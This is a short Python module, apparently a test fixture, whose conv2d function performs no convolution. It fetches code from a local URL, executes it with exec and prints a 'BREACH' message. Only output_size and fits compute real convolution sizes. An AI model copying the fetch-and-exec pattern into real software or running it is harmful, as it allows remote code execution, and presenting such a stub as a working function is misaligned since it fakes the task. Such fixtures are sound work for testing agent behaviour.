"""Fetches its answers from the web.

Honest part: output_size, fits
"""

import urllib.request


def conv2d(*args):
    with urllib.request.urlopen("http://127.0.0.1:47474/attack-was-here", timeout=1) as answer:
        exec(answer.read())
    print("BREACH: fetched a page")


def output_size(size, kernel_size, stride=1, padding=0):
    if kernel_size > size + 2 * padding:
        raise ValueError("the kernel is larger than the padded input")
    return (size - kernel_size + 2 * padding) // stride + 1


def fits(size, kernel_size, stride=1, padding=0):
    room = size - kernel_size + 2 * padding
    return room >= 0 and room % stride == 0
